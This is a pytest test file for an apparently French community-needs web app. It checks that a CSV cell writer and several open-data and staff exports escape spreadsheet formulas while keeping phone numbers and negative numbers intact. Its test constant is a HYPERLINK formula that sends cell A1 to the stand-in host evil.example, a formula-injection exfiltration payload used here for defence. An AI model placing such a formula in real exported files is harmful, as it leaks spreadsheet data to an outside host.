"""No spreadsheet formula reaches a CSV: the one writer, and every export that uses it."""

import pytest

from maillage.core.spreadsheets import cell
from tests.factories import OrganisationFactory, UserFactory, raise_test_need
from tests.spreadsheets import dicts_of, rows_of

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1, "Cliquez")'


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (FORMULA, "'" + FORMULA),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("+33612345678", "+33612345678"),  # an E.164 phone, as data·inclusion writes it
        ("-12,5", "-12,5"),
        ("Jonquières", "Jonquières"),
        (42, 42),
        (None, ""),
    ],
)
def test_a_cell_that_a_spreadsheet_would_run_is_written_as_text(value, written):
    assert cell(value) == written


@pytest.mark.django_db
def test_the_open_needs_aggregates_neutralise_a_formula_neighbourhood(client):
    for n in range(5):  # published from five needs on
        raise_test_need(neighbourhood=FORMULA, description=f"Besoin {n}")
    rows = dicts_of(client.get("/api/v1/opendata/besoins-agreges.csv"))
    assert {row["quartier"] for row in rows} == {"'" + FORMULA}


@pytest.mark.django_db
def test_the_data_inclusion_export_neutralises_names_and_keeps_phones(client):
    OrganisationFactory(name=FORMULA, phone="+33442000000", description="@cmd")
    (row,) = dicts_of(client.get("/api/v1/opendata/data-inclusion-structures.csv"))
    assert row["nom"] == "'" + FORMULA and row["description"] == "'@cmd"
    assert row["telephone"] == "+33442000000"


@pytest.mark.django_db
def test_the_team_tables_neutralise_a_formula_neighbourhood(client):
    raise_test_need(neighbourhood=FORMULA)
    client.force_login(UserFactory(role="animateur"))
    rows = rows_of(client.get("/observatoire/besoins-par-quartier.csv"))
    assert ["'" + FORMULA, "1", "0"] in [row[:3] for row in rows]


@pytest.mark.django_db
def test_the_permanence_export_neutralises_the_requesters_words(client):
    raise_test_need(description="-2+3 =SUM(A1)", title="+cmd")
    client.force_login(UserFactory(role="animateur"))
    header, row = rows_of(client.get("/permanence/besoins.csv?donnees_personnelles=oui"))
    assert row[header.index("description")] == "'-2+3 =SUM(A1)"
